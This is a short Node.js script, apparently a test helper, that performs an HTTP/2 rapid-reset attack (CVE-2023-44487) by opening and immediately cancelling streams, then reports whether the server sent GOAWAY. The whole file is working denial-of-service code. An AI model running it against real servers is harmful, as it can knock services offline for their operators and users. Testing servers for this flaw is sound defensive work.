// A rapid-reset attacker (CVE-2023-44487) in its own process, as a real one would be: it opens HTTP/2 streams and
// cancels each at once, up to a count, then prints what it saw as one JSON line: the GOAWAY code (null if none) and
// how many streams it opened before the session ended.
import { connect, constants } from 'node:http2';

const [url, ca, servername, count] = process.argv.slice(2);
const session = connect(url, { ca, servername });
let goaway = null;
session.on('goaway', (code) => (goaway = code));
session.on('error', () => {});
session.on('connect', () => void attack());

async function attack() {
  let opened = 0;
  for (; opened < Number(count) && !session.destroyed && !session.closed && goaway === null; opened++) {
    try {
      const stream = session.request({ ':path': `/rr/${opened}`, ':authority': servername });
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
    } catch {
      break;
    }
    if (opened % 20 === 19) await new Promise((resolve) => setImmediate(resolve));
  }
  const done = () => {
    console.log(JSON.stringify({ goaway, opened }));
    process.exit(0);
  };
  if (goaway !== null || session.destroyed) done();
  session.on('close', done);
  setTimeout(done, 5000);
}
